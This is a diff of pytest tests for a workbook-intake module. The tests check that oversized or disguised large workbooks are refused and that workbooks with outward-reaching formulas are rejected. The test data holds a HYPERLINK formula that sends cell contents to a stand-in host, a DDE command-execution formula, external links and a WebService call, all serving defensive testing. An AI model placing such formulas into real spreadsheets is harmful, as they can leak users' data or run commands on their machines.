@@ -209,6 +209,80 @@ def test_a_workbook_that_is_too_large_to_keep_is_refused(tmp_path: Path) -> None
     assert not (tmp_path / "out.xlsx").exists()
 
 
+def _replaced(workbook: Path, part: str, old: bytes, new: bytes, *, name: str = "", encoding: str = "utf-8") -> Path:
+    """Write a workbook with one part changed, and perhaps named and encoded otherwise."""
+    changed = workbook.with_name("changed.xlsx")
+    with zipfile.ZipFile(workbook) as before, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as after:
+        for one in before.namelist():
+            content = before.read(one)
+            if one == part:
+                assert old in content
+                content = content.replace(old, new).decode().encode(encoding)
+            after.writestr(name if name and one == part else one, content)
+    return changed
+
+
+_SHEET, _AREA = "xl/worksheets/sheet1.xml", b"A1:XFD1048576"
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "other"),
+    [
+        (b'"A1:XFD1048576"', b"'A1:XFD1048576'", {}),
+        (_AREA, b"$A$1:$XFD$1048576", {}),
+        (_AREA, b"a1:xfd1048576", {}),
+        (_AREA, b"no area", {}),
+        (_AREA, _AREA, {"encoding": "utf-16"}),
+        (_AREA, _AREA, {"name": "xl/media/image1.png"}),
+        (b"<sheetData", b"<sheetData><row>" + b"<c/>" * 1_000_001 + b"</row></sheetData><sheetData", {}),
+    ],
+    ids=["quotes", "dollars", "small letters", "unreadable", "UTF-16", "elsewhere", "empty cells"],
+)
+def test_no_other_way_of_writing_a_large_workbook_gets_past(
+    tmp_path: Path, old: bytes, new: bytes, other: dict[str, str]
+) -> None:
+    from jiahe.intake.reports import CannotBeKept
+    from jiahe.intake.reports.original import MOST_UNPACKED, _refuse_large
+
+    wide = openpyxl.Workbook()
+    wide.active.merged_cells.add("A1:B2" if b"<c/>" in new else _AREA.decode())
+    wide.save(tmp_path / "wide.xlsx")
+    with pytest.raises((CannotBeKept, ValueError)):
+        _refuse_large(_replaced(tmp_path / "wide.xlsx", _SHEET, old, new, **other), MOST_UNPACKED)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("http://a.example/"&A1)',
+        "=cmd|'/c calc'!A0",
+        "=[1]Sheet1!A1",
+        '=_xlfn.WebService("http://a.example")',
+    ],
+)
+def test_a_workbook_that_reaches_out_is_written_anew(tmp_path: Path, formula: str) -> None:
+    from jiahe.intake.reports import CannotBeKept, write_into
+
+    book = openpyxl.Workbook()
+    book.active["A1"] = "=SUM(1,2)"
+    book.save(tmp_path / "in.xlsx")
+    write_into(tmp_path / "in.xlsx", [], [], tmp_path / "out.xlsx")
+    book.active["A2"] = formula
+    book.save(tmp_path / "in.xlsx")
+    with pytest.raises(CannotBeKept):
+        write_into(tmp_path / "in.xlsx", [], [], tmp_path / "out.xlsx")
+
+
+def test_a_workbook_with_links_to_others_is_written_anew(tmp_path: Path) -> None:
+    from jiahe.intake.reports import CannotBeKept, write_into
+
+    openpyxl.Workbook().save(tmp_path / "in.xlsx")
+    with zipfile.ZipFile(tmp_path / "in.xlsx", "a") as package:
+        package.writestr("xl/externalLinks/externalLink1.xml", b"<externalLink/>")
+    with pytest.raises(CannotBeKept):
+        write_into(tmp_path / "in.xlsx", [], [], tmp_path / "out.xlsx")
+
+
 def test_a_workbook_that_openpyxl_cannot_read_is_written_anew(
     acting: Cast, take: Callable[..., Any], tmp_path: Path
 ) -> None:
